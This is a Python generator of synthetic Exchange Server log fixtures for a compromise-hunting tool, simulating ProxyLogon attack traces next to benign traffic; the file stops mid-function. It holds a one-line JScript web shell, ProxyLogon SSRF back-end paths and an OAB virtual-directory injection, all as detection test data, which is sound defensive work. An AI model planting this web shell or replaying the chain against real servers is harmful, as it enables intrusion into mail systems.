#!/usr/bin/env python3
"""Write exhunt's synthetic test fixtures (examples/ and tests/e2e/<case>/input + args).

Everything here is invented from the format descriptions in the project notes: no real
logs, no third-party rules or samples. Output is deterministic (GUIDs and numbers are
derived from SHA-256 of fixed keys), so rerunning gives byte-identical files.

Usage:  python3 tests/gen/make_fixtures.py      (from anywhere; paths are repo-relative)

It deletes and rewrites examples/compromised, examples/clean and, for every case listed
in this file, tests/e2e/<case>/input and tests/e2e/<case>/args.  It never touches
expected.* files or cases it does not own.
"""

import calendar
import hashlib
import random
import shutil
import struct
import sys
import uuid
import zipfile
import zlib
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
V15 = "Program Files/Microsoft/Exchange Server/V15"
LOGS = V15 + "/Logging"
BOM = b"\xef\xbb\xbf"
CRLF = "\r\n"
LF = "\n"

# --------------------------------------------------------------------------------------
# Field lists
# --------------------------------------------------------------------------------------

# HttpProxy: the 74 names, in order (exchange-detection.md section 2.1).
HP_FIELDS = [
    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
    "RevisionVersion", "ClientRequestId", "Protocol", "UrlHost", "UrlStem",
    "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser",
    "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName",
    "HttpStatus", "BackEndStatus", "ErrorCode", "Method", "ProxyAction", "TargetServer",
    "TargetServerVersion", "RoutingType", "RoutingHint", "BackEndCookie",
    "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
    "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency",
    "CalculateTargetBackEndLatency", "GlsLatencyBreakup", "TotalGlsLatency",
    "AccountForestLatencyBreakup", "TotalAccountForestLatency",
    "ResourceForestLatencyBreakup", "TotalResourceForestLatency", "ADLatency",
    "SharedCacheLatencyBreakup", "TotalSharedCacheLatency", "ActivityContextLifeTime",
    "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency",
    "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
    "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency",
    "HandlerCompletionLatency", "RequestHandlerLatency", "HandlerToModuleSwitchingLatency",
    "ProxyTime", "CoreLatency", "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime",
    "RouteRefresherLatency", "UrlQuery", "BackEndGenericInfo", "GenericInfo",
    "GenericErrors", "EdgeTraceId", "DatabaseGuid", "UserADObjectGuid",
    "PartitionEndpointLookupLatency", "RoutingStatus",
]
assert len(HP_FIELDS) == 74 and len(set(HP_FIELDS)) == 74

# An older, Exchange-2013-style subset: no UrlHost, no RoutingType, and a different order
# (Method/ClientIpAddress moved forward, AnchorMailbox after HttpStatus).
HP_FIELDS_2013 = [
    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
    "RevisionVersion", "ClientRequestId", "Protocol", "UrlStem", "Method",
    "ClientIpAddress", "ProtocolAction", "AuthenticationType", "IsAuthenticated",
    "AuthenticatedUser", "Organization", "UserAgent", "ServerHostName", "HttpStatus",
    "AnchorMailbox", "BackEndStatus", "ErrorCode", "ProxyAction", "TargetServer",
    "TargetServerVersion", "RoutingHint", "BackEndCookie", "ServerLocatorHost",
    "ServerLocatorLatency", "RequestBytes", "ResponseBytes", "TargetOutstandingRequests",
    "AuthModulePerfContext", "HttpPipelineLatency", "CalculateTargetBackEndLatency",
    "GlsLatencyBreakup", "TotalGlsLatency", "AccountForestLatencyBreakup",
    "TotalAccountForestLatency", "ResourceForestLatencyBreakup",
    "TotalResourceForestLatency", "ADLatency", "ActivityContextLifeTime",
    "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency",
    "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
    "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency",
    "HandlerCompletionLatency", "RequestHandlerLatency", "HandlerToModuleSwitchingLatency",
    "ProxyTime", "CoreLatency", "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime",
    "RouteRefresherLatency", "UrlQuery", "GenericInfo", "GenericErrors",
]
assert set(HP_FIELDS_2013) <= set(HP_FIELDS)
assert "UrlHost" not in HP_FIELDS_2013 and "RoutingType" not in HP_FIELDS_2013

# Rps_Http (exchange-detection.md section 2.4).
RPS_FIELDS = [
    "DateTime", "StartTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
    "RevisionVersion", "ClientRequestId", "UrlHost", "UrlStem", "AuthenticationType",
    "IsAuthenticated", "AuthenticatedUser", "Organization", "ManagedOrganization",
    "ClientIpAddress", "ServerHostName", "FrontEndServer", "HttpStatus", "SubStatus",
    "ErrorCode", "Action", "CommandId", "CommandName", "SessionId", "ShellId", "FailFast",
    "ContributeToFailFast", "RequestBytes", "ClientInfo", "CPU", "Memory",
    "ActivityContextLifeTime", "TotalTime", "UrlQuery", "GenericLatency", "GenericInfo",
    "GenericErrors",
]

IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")

# --------------------------------------------------------------------------------------
# Constants of the synthetic world
# --------------------------------------------------------------------------------------

SERVER = "EXCH01"
FQDN = "EXCH01.corp.example.com"
URLHOST = "mail.corp.example.com"
SERVER_IP = "10.10.0.25"

BUILD_VULN = "15.01.2106.002"     # Exchange 2016 CU18 RTM, before the March 2021 SU
BUILD_PATCHED = "15.01.2507.016"  # Exchange 2016 CU23 + Nov 2022 SU
BUILD_CURRENT = "15.02.2562.046"  # Exchange Server SE RTM + Aug 2026 SU (newest in the catalogue)
BUILD_2016_OCT22 = "15.01.2507.013"  # Exchange 2016 CU23 + Oct 2022 SU (before ProxyNotShell's fix)
BUILD_2019_CU8 = "15.02.0792.003"  # Exchange 2019 CU8 RTM (vulnerable)

ATTACKER_IP = "203.0.113.7"
HAFNIUM_IP = "104.140.114.110"     # known-bad IOC IP (Volexity list), asked for explicitly
UA_CHROME87 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
               "(KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36")
UA_EWS_BAD = "ExchangeServicesClient/0.0.0.0"
UA_GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
UA_ANTSWORD = "antSword/v2.1"
# Teams' calendar client on EWS embeds a published attacker string in its user agent
UA_TEAMS_EWS = "MicrosoftNinja/1.0 Teams/1.0 (ExchangeServicesClient/0.0.0.0) SkypeSpaces/1.0a$*+"
UA_ZGRAB = "Mozilla/5.0 zgrab/0.x"
UA_NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"

UA_OUTLOOK_2021 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)"
UA_EDGE_2021 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                "(KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81")
UA_FIREFOX_2021 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0"
UA_OUTLOOK_2023 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15928; Pro)"
UA_EDGE_2023 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                "(KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Edg/108.0.1462.76")
UA_FIREFOX_2023 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:108.0) Gecko/20100101 Firefox/108.0"
UA_OUTLOOK_2026 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.19127; Pro)"
UA_EDGE_2026 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                "(KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.3485.54")
UA_FIREFOX_2026 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:142.0) Gecko/20100101 Firefox/142.0"
UA_EWS_GOOD = "ExchangeServicesClient/15.00.0913.015"

UA_OUTLOOK_2020 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.12527; Pro)"
UA_EDGE_2020 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                "(KHTML, like Gecko) Chrome/80.0.3987.122 Safari/537.36 Edg/80.0.361.62")
UA_FIREFOX_2020 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:73.0) Gecko/20100101 Firefox/73.0"
UA_OUTLOOK_2022 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15601; Pro)"
UA_EDGE_2022 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                "(KHTML, like Gecko) Chrome/106.0.0.0 Safari/537.36 Edg/106.0.1370.52")
UA_FIREFOX_2022 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:105.0) Gecko/20100101 Firefox/105.0"

UAS = {
    2020: {"outlook": UA_OUTLOOK_2020, "edge": UA_EDGE_2020, "firefox": UA_FIREFOX_2020},
    2021: {"outlook": UA_OUTLOOK_2021, "edge": UA_EDGE_2021, "firefox": UA_FIREFOX_2021},
    2022: {"outlook": UA_OUTLOOK_2022, "edge": UA_EDGE_2022, "firefox": UA_FIREFOX_2022},
    2023: {"outlook": UA_OUTLOOK_2023, "edge": UA_EDGE_2023, "firefox": UA_FIREFOX_2023},
    2026: {"outlook": UA_OUTLOOK_2026, "edge": UA_EDGE_2026, "firefox": UA_FIREFOX_2026},
}

# Attackers and scanners of the later chains (IIS cases). None of these is in
# data/ioc-uas.tsv, so a finding in those cases never comes from the user agent alone.
UA_CHROME80 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
               "(KHTML, like Gecko) Chrome/80.0.3987.116 Safari/537.36")
UA_CHROME92 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
               "(KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36")
UA_CHROME105 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                "(KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36")
UA_PYREQ_26 = "python-requests/2.26.0"
UA_CURL = "curl/7.79.1"
UA_NUCLEI = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
UA_OUTLOOK_IOS = "Outlook-iOS/709.2226530.prod.iphone (3.24.1)"
UA_WINRM = "Microsoft WinRM Client"

# name, client IP, SID
USERS = [
    ("alice", "10.10.1.21", "S-1-5-21-3623811015-3361044348-30300820-1104"),
    ("bob", "10.10.1.34", "S-1-5-21-3623811015-3361044348-30300820-1105"),
    ("carol", "10.10.2.17", "S-1-5-21-3623811015-3361044348-30300820-1106"),
    ("dave", "192.168.50.12", "S-1-5-21-3623811015-3361044348-30300820-1107"),
    ("exadmin", "10.10.0.5", "S-1-5-21-3623811015-3361044348-30300820-1013"),
]

OAB_VDIR_GUID = "5f3a0b3e-7c21-4d8e-9b0a-3e6f1c2d4a57"
SSRF_PREFIX = "ServerInfo~a]@" + FQDN + ":444"
CHAIN = {  # back-end path carried in the X-BEResource cookie -> AnchorMailbox suffix
    "autodiscover": "/autodiscover/autodiscover.xml?#",
    "emsmdb": "/mapi/emsmdb/?#",
    "proxylogon": "/ecp/proxyLogon.ecp?#",
    "getobject": "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=xkxx#",
    "setobject": "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=xkxx#",
    "reset": "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=xkxx#",
    "ews": "/ews/exchange.asmx?#",
}
SHELL_SCRIPT = ('<script language="JScript" runat="server">'
                'function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>')

# --------------------------------------------------------------------------------------
# Small helpers
# --------------------------------------------------------------------------------------


def guid(key):
    """Deterministic GUID (version-4 shaped) from a key string."""
    return str(uuid.UUID(bytes=hashlib.sha256(key.encode()).digest()[:16], version=4))


def rng(key):
    return random.Random(int.from_bytes(hashlib.sha256(key.encode()).digest()[:8], "big"))


def build_parts(build):
    """'15.01.2106.002' -> (15, 1, 2106, 2)."""
    return tuple(int(p) for p in build.split("."))


def build_short(build):
    return ".".join(str(p) for p in build_parts(build))


def csv_field(v):
    v = "" if v is None else str(v)
    if any(c in v for c in ',"\r\n'):
        return '"' + v.replace('"', '""') + '"'
    return v


def csv_line(values):
    return ",".join(csv_field(v) for v in values)


WRITTEN = []


def write(rel, data):
    """Write bytes or str (as UTF-8, no newline translation) under the repo."""
    p = REPO / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(p, "wb") as f:
        f.write(data)
    WRITTEN.append((rel, len(data)))
    return p


def join_lines(lines, eol=CRLF, bom=True, final_eol=True):
    text = eol.join(lines) + (eol if final_eol else "")
    return (BOM if bom else b"") + text.encode("utf-8")


def hour_of(ts):
    """'2021-03-03T02:11:05.120Z' -> '2021030302'."""
    return ts[0:4] + ts[5:7] + ts[8:10] + ts[11:13]


def date_hdr(hour):
    return "%s-%s-%sT%s:00:00.000Z" % (hour[0:4], hour[4:6], hour[6:8], hour[8:10])


# --------------------------------------------------------------------------------------
# HttpProxy rows and files
# --------------------------------------------------------------------------------------

LATENCY_FIELDS = [f for f in HP_FIELDS if f.endswith("Latency") and f not in (
    "ServerLocatorLatency", "PartitionEndpointLookupLatency")] + ["ActivityContextLifeTime",
                                                                 "ProxyTime", "HttpProxyOverhead"]


def hp_row(ts, protocol, build, key, **kw):
    """One HttpProxy row as a dict with all 74 fields; kw overrides (unknown names fail)."""
    r = rng(key)
    maj, mnr, bld, rev = build_parts(build)
    row = {f: "" for f in HP_FIELDS}
    row.update({
        "DateTime": ts,
        "RequestId": guid(key + ":req"),
        "MajorVersion": maj, "MinorVersion": mnr, "BuildVersion": bld, "RevisionVersion": rev,
        "Protocol": protocol,
        "UrlHost": URLHOST,
        "ServerHostName": SERVER,
        "HttpStatus": 200, "BackEndStatus": 200,
        "Method": "GET",
        "ProxyAction": "Proxy",
        "TargetServer": FQDN,
        "TargetServerVersion": "Version %d.%d (Build %d.%d)" % (maj, mnr, bld, rev),
        "ServerLocatorHost": FQDN,
        "ServerLocatorLatency": r.randint(0, 3),
        "RequestBytes": r.randint(0, 4000),
        "ResponseBytes": r.randint(200, 60000),
        "TargetOutstandingRequests": r.randint(0, 4),
    })
    for f in LATENCY_FIELDS:
        row[f] = r.randint(0, 12)
    for f in ("GlsLatencyBreakup", "AccountForestLatencyBreakup", "ResourceForestLatencyBreakup",
              "SharedCacheLatencyBreakup", "TotalGlsLatency", "TotalAccountForestLatency",
              "TotalResourceForestLatency", "TotalSharedCacheLatency", "KerberosAuthHeaderLatency"):
        row[f] = ""
    row["BackendProcessingLatency"] = r.randint(5, 400)
    row["TotalRequestTime"] = row["BackendProcessingLatency"] + r.randint(3, 40)
    for k, v in kw.items():
        if k not in row:
            raise KeyError("unknown HttpProxy field " + k)
        row[k] = v
    return row


def benign_row(ts, protocol, build, key, user=0, kind=0, year=2021):
    """A normal authenticated request of the given protocol, from an internal client."""
    name, ip, sid = USERS[user % len(USERS)]
    upn = name + "@corp.example.com"
    ua = UAS[year]
    mbx = guid("mailbox:" + name)
    kw = {"AuthenticatedUser": upn, "IsAuthenticated": "true", "ClientIpAddress": ip,
          "ClientRequestId": guid(key + ":creq")}
    if protocol == "Owa":
        opts = [
            dict(UrlStem="/owa/", Method="GET", UserAgent=ua["edge"], RoutingHint="Cookie",
                 AnchorMailbox="Sid~" + sid, RoutingType="Sid"),
            dict(UrlStem="/owa/service.svc", Method="POST", UserAgent=ua["edge"],
                 UrlQuery="?action=GetItem&EP=1&ID=-41&AC=1", RoutingHint="Cookie",
                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
            dict(UrlStem="/owa/ev.owa2", Method="POST", UserAgent=ua["firefox"],
                 UrlQuery="?ns=PendingRequest&ev=PendingNotificationRequest&UA=0",
                 RoutingHint="Cookie", AnchorMailbox="Sid~" + sid, RoutingType="Sid"),
        ]
        kw["AuthenticationType"] = "FBA"
    elif protocol == "Ecp":
        opts = [
            dict(UrlStem="/ecp/", Method="GET", UserAgent=ua["edge"], RoutingHint="Cookie",
                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
            dict(UrlStem="/ecp/DDI/DDIService.svc/GetList", Method="POST",
                 UserAgent=ua["edge"], RoutingHint="Cookie",
                 UrlQuery="?schema=MessageTraceSummary&msExchEcpCanary=" +
                 hashlib.sha256((key + ":canary").encode()).hexdigest()[:40],
                 AnchorMailbox="Sid~" + sid, RoutingType="Sid"),
            dict(UrlStem="/ecp/PersonalSettings/HomePage.aspx", Method="GET",
                 UserAgent=ua["firefox"], UrlQuery="?showhelp=false", RoutingHint="Cookie",
                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
        ]
        kw["AuthenticationType"] = "FBA"
    elif protocol == "Mapi":
        opts = [
            dict(UrlStem="/mapi/emsmdb/", Method="POST", UserAgent=ua["outlook"],
                 UrlQuery="?MailboxId=%s@corp.example.com" % mbx, RoutingHint="Url",
                 AnchorMailbox="MailboxGuid~%s@corp.example.com" % mbx,
                 RoutingType="MailboxGuid"),
            dict(UrlStem="/mapi/nspi/", Method="POST", UserAgent=ua["outlook"],
                 UrlQuery="?MailboxId=%s@corp.example.com" % mbx, RoutingHint="Url",
                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
        ]
        kw["AuthenticationType"] = "Negotiate"
    elif protocol == "Ews":
        opts = [
            dict(UrlStem="/EWS/Exchange.asmx", Method="POST", UserAgent=ua["outlook"],
                 RoutingHint="AnchorMailboxHeader", AnchorMailbox="Smtp~" + upn,
                 RoutingType="Smtp"),
        ]
        kw["AuthenticationType"] = "Negotiate"
    elif protocol == "Autodiscover":
        opts = [
            dict(UrlStem="/Autodiscover/Autodiscover.xml", Method="POST",
                 UserAgent=ua["outlook"], RoutingHint="Url", AnchorMailbox="Smtp~" + upn,
                 RoutingType="Smtp"),
        ]
        kw["AuthenticationType"] = "Negotiate"
    else:
        raise ValueError(protocol)
    kw.update(opts[kind % len(opts)])
    return hp_row(ts, protocol, build, key, **kw)


def ssrf_row(ts, stage, status, build, key, ip=ATTACKER_IP, ua=UA_CHROME87, stem="/ecp/y.js",
             protocol="Ecp", method="POST", **kw):
    """A ProxyLogon SSRF row: anonymous, X-BEResource cookie naming a back-end path."""
    path = CHAIN[stage]
    args = dict(
        UrlStem=stem, Method=method, AuthenticationType="", IsAuthenticated="false",
        AuthenticatedUser="", AnchorMailbox=SSRF_PREFIX + path, UserAgent=ua,
        ClientIpAddress=ip, HttpStatus=status, BackEndStatus=status,
        RoutingType="ServerInfo", RoutingHint="X-BEResource-Cookie",
        BackEndCookie="Server~a]@%s:444%s~1941962754" % (FQDN, path),
        ServerLocatorHost="", ServerLocatorLatency="")
    args.update(kw)
    return hp_row(ts, protocol, build, key, **args)


def nmap_probe_row(ts, build, key, ip="198.51.100.44"):
    return hp_row(ts, "Owa", build, key, UrlStem="/owa/auth/x.js", Method="GET",
                  AuthenticationType="FBA", IsAuthenticated="false",
                  AnchorMailbox="ServerInfo~localhost/ecp/default.flt?", UserAgent=UA_NMAP,
                  ClientIpAddress=ip, HttpStatus=500, BackEndStatus="", TargetServer="localhost",
                  TargetServerVersion="", RoutingType="ServerInfo",
                  RoutingHint="X-AnonResource-Backend-Cookie", ServerLocatorHost="",
                  ErrorCode="ServerNotFound",
                  GenericErrors="ProxyRequestHandler:ServerNotFound:localhost")


def exporttool_row(ts, build, key, ip="198.51.100.91"):
    return hp_row(ts, "Ecp", build, key,
                  UrlStem="/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
                  Method="GET", AuthenticationType="", IsAuthenticated="false",
                  AuthenticatedUser="", AnchorMailbox="ServerVersion~Version 15.0 (Build 0.0)",
                  UserAgent=UA_ZGRAB, ClientIpAddress=ip, HttpStatus=200, BackEndStatus=200,
                  RoutingType="ServerVersion", RoutingHint="EDiscoveryExportTool-ServerVersion",
                  ServerLocatorHost="")


def hp_text_lines(rows, build, hour, fields=HP_FIELDS):
    lines = [",".join(fields),
             "#Software: Microsoft Exchange Server",
             "#Version: " + build,
             "#Log-type: HttpProxy Logs",
             "#Date: " + date_hdr(hour),
             "#Fields: " + ",".join(fields)]
    for row in sorted(rows, key=lambda x: x["DateTime"]):
        lines.append(csv_line(row[f] for f in fields))
    return lines


def hp_file(root, protocol, hour, rows, build, eol=CRLF, bom=True, name=None):
    """Write <root>/<LOGS>/HttpProxy/<protocol>/HttpProxy_<hour>-1.LOG."""
    name = name or "HttpProxy_%s-1.LOG" % hour
    rel = "%s/%s/HttpProxy/%s/%s" % (root, LOGS, protocol, name)
    return write(rel, join_lines(hp_text_lines(rows, build, hour), eol=eol, bom=bom))


def benign_rows(protocol, hour, build, key, n, year=2021, start_user=0):
    """n benign rows spread over the hour; deterministic."""
    r = rng(key)
    out = []
    minutes = sorted(r.sample(range(60), n))
    for i, m in enumerate(minutes):
        ts = "%s-%s-%sT%s:%02d:%02d.%03dZ" % (hour[0:4], hour[4:6], hour[6:8], hour[8:10], m,
                                              r.randint(0, 59), r.randint(0, 999))
        out.append(benign_row(ts, protocol, build, "%s:%d" % (key, i), user=start_user + i,
                              kind=r.randint(0, 2), year=year))
    return out


# --------------------------------------------------------------------------------------
# ECP server, OAB generator, Rps_Http, IIS
# --------------------------------------------------------------------------------------


def ecp_lines(day, entries):
    """entries: (timestamp, event id, EventData text)."""
    lines = ["#Software: Microsoft Exchange Server",
             "#Version: 15.00.0000.000",
             "#Log-type: ECP Server Log",
             "#Date: %s-%s-%sT00:00:00.000Z" % (day[0:4], day[4:6], day[6:8]),
             "#Fields: TimeStamp,ServerName,EventId,EventData"]
    for ts, eid, data in entries:
        lines.append(",".join([ts, SERVER, str(eid), '"' + data.replace('"', '""') + '"']))
    return lines


def ecp_data(cmd, key, url, build):
    return "S:CMD=%s;S:REQID=%s;S:URL=%s;S:BLD=%s" % (cmd, guid(key), url, build_short(build))


def ecp_benign(day, build, key):
    """A handful of ordinary ECP admin/user operations for one day."""
    d = "%s-%s-%s" % (day[0:4], day[4:6], day[6:8])
    return [
        (d + "T00:42:13.207Z", 1, ecp_data("Get-InboxRule.Mailbox='alice@corp.example.com'",
                                           key + ":1", "/ecp/RulesEditor/InboxRules.svc/GetList",
                                           build)),
        (d + "T01:15:48.630Z", 1, ecp_data("Get-Mailbox.ResultSize='500'", key + ":2",
                                           "/ecp/UsersGroups/Mailboxes.svc/GetList", build)),
        (d + "T09:12:05.019Z", 1, ecp_data(
            "Set-Mailbox.Identity='bob@corp.example.com'.ProhibitSendQuota='9.5 GB (10,200,547,328 bytes)'",
            key + ":3", "/ecp/UsersGroups/EditMailbox.aspx", build)),
        (d + "T11:37:44.551Z", 1, ecp_data("Get-MessageTrackingReport.ResultSize='100'",
                                           key + ":4",
                                           "/ecp/DDI/DDIService.svc/GetList?schema=MessageTraceSummary",
                                           build)),
    ]


def ecp_attack(ts, build, key):
    cmd = ("Set-OabVirtualDirectory.ExternalUrl='http://f/%s'.Identity='%s'"
           % (SHELL_SCRIPT, OAB_VDIR_GUID))
    return (ts, 1, ecp_data(cmd, key, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory",
                            build))


def ecp_admin_oab(ts, build, key):
    cmd = ("Set-OabVirtualDirectory.ExternalUrl='https://mail.example.com/OAB'.Identity='%s'"
           % OAB_VDIR_GUID)
    return (ts, 1, ecp_data(cmd, key, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory",
                            build))


def ecp_file(root, day, entries, eol=CRLF):
    rel = "%s/%s/ECP/Server/ECPServer%s-1.LOG" % (root, LOGS, day)
    return write(rel, join_lines(ecp_lines(day, entries), eol=eol))


OAB_INSTALL = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
OAB_TEMP_PATH = OAB_INSTALL + "ClientAccess\\OAB\\Temp\\9e2a4c1e-5b7d-4f30-a6c8-2d1e0f9b7a35\\oab.xml"
OAB_SHELL_PATH = "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"


def oab_failed(path):
    return "Download failed and temporary file '%s' needs to be removed." % path


def oab_benign(day, key):
    d = "%s-%s-%s" % (day[0:4], day[4:6], day[6:8])
    oab = "\\Default Offline Address Book"
    return [
        (d + "T00:05:00.114Z", 6120, 14, "Information",
         "OABGen: starting generation of offline address book '%s'." % oab),
        (d + "T00:05:03.862Z", 6120, 14, "Information",
         "Generated full OAB version 4 for '%s': 412 entries, 0 errors, 3 warnings." % oab),
        (d + "T00:05:04.019Z", 6120, 14, "Warning", oab_failed(OAB_TEMP_PATH)),
        (d + "T00:05:04.233Z", 6120, 14, "Information",
         "OABGen: finished generation of offline address book '%s', duration 00:00:04.119." % oab),
    ]


def oab_file(root, day, build, entries, eol=CRLF):
    d = "%s-%s-%s" % (day[0:4], day[4:6], day[6:8])
    lines = ["#Software: Microsoft Exchange Server",
             "#Version: " + build,
             "#Log-type: OAB Generator Log",
             "#Date: %sT00:00:00.000Z" % d,
             "#Fields: DateTime,ProcessId,ThreadId,Level,Message"]
    for ts, pid, tid, lvl, msg in sorted(entries):
        lines.append(csv_line([ts, pid, tid, lvl, msg]))
    rel = "%s/%s/OABGeneratorLog/OABGeneratorLog_%s-1.LOG" % (root, LOGS, day)
    return write(rel, join_lines(lines, eol=eol))


def rps_row(ts, build, key, i, r, **kw):
    """One Rps_Http row as a dict: an administrator's remote PowerShell command from the
    Exchange Management Shell; kw overrides (unknown names fail). r is the caller's rng,
    drawn from in a fixed order."""
    maj, mnr, bld, rev = build_parts(build)
    v = {f: "" for f in RPS_FIELDS}
    v.update({
        "DateTime": ts, "StartTime": ts, "RequestId": guid("%s:%d:rq" % (key, i)),
        "MajorVersion": maj, "MinorVersion": mnr, "BuildVersion": bld, "RevisionVersion": rev,
        "ClientRequestId": guid("%s:%d:crq" % (key, i)), "UrlHost": FQDN,
        "UrlStem": "/powershell", "AuthenticationType": "Kerberos", "IsAuthenticated": "true",
        "AuthenticatedUser": "CORP\\exadmin",
        "Organization": "", "ClientIpAddress": "10.10.0.5",
        "ServerHostName": SERVER, "FrontEndServer": FQDN, "HttpStatus": 200, "SubStatus": 0,
        "Action": "Command", "CommandId": guid("%s:%d:cmd" % (key, i)).upper(),
        "CommandName": "Get-Mailbox", "SessionId": guid("%s:sess" % key).upper(),
        "ShellId": guid("%s:shell" % key).upper(), "FailFast": "False",
        "ContributeToFailFast": "False", "RequestBytes": r.randint(800, 6000),
        "ClientInfo": "Microsoft WinRM Client",
        "CPU": r.randint(0, 60), "Memory": r.randint(1000, 9000),
        "ActivityContextLifeTime": r.randint(10, 300), "TotalTime": r.randint(10, 300),
        "UrlQuery": "?serializationLevel=Full;ExchClientVer=%s;clientApplication=ManagementShell;"
                    "TargetServer=;PSVersion=5.1.14393.4046" % build_short(build),
    })
    for k, val in kw.items():
        if k not in v:
            raise KeyError("unknown Rps_Http field " + k)
        v[k] = val
    return v


def rps_write(root, hour, build, rows, eol=CRLF):
    """Write <root>/<LOGS>/CmdletInfra/Powershell-Proxy/Http/Rps_Http_<hour>-1.LOG."""
    lines = [",".join(RPS_FIELDS),
             "#Software: Microsoft Exchange Server",
             "#Version: " + build,
             "#Log-type: Rps Http Logs",
             "#Date: " + date_hdr(hour),
             "#Fields: " + ",".join(RPS_FIELDS)]
    lines += [csv_line(v[f] for f in RPS_FIELDS) for v in sorted(rows, key=lambda x: x["DateTime"])]
    rel = "%s/%s/CmdletInfra/Powershell-Proxy/Http/Rps_Http_%s-1.LOG" % (root, LOGS, hour)
    return write(rel, join_lines(lines, eol=eol))


def rps_file(root, hour, build, key, year=2021, eol=CRLF):
    """Four ordinary rows: three admin commands and one health-mailbox probe."""
    r = rng(key)
    rows = []
    cmds = ["Get-Mailbox", "Get-ExchangeServer", "Get-MailboxDatabase", "Get-OrganizationConfig"]
    for i, m in enumerate(sorted(r.sample(range(60), 4))):
        ts = "%s-%s-%sT%s:%02d:%02d.%03dZ" % (hour[0:4], hour[4:6], hour[6:8], hour[8:10], m,
                                              r.randint(0, 59), r.randint(0, 999))
        kw = {"CommandName": cmds[i]}
        if i == 3:
            kw.update(AuthenticatedUser="CORP\\HealthMailbox0a1b2c3", ClientIpAddress="10.10.0.25",
                      ClientInfo="Exchange BackEnd Probes")
        rows.append(rps_row(ts, build, key, i, r, **kw))
    return rps_write(root, hour, build, rows, eol=eol)


def iis_line(ts, method, stem, query, user, ip, ua, status, taken, sub=0, win32=0, port=443,
             referer="-"):
    """ts = 'YYYY-MM-DD HH:MM:SS'. Spaces in values become '+' (IIS encoding)."""
    enc = lambda s: "-" if not s else s.replace(" ", "+")  # noqa: E731
    return " ".join([ts, SERVER_IP, method, stem, enc(query), str(port), enc(user), ip, enc(ua),
                     enc(referer), str(status), str(sub), str(win32), str(taken)])


def iis_file(root, day6, entries, date_line, site=1):
    """Write <root>/inetpub/logs/LogFiles/W3SVC<site>/u_ex<day6>.log (1 = Default Web Site,
    the front end on 443; 2 = Exchange Back End on 444)."""
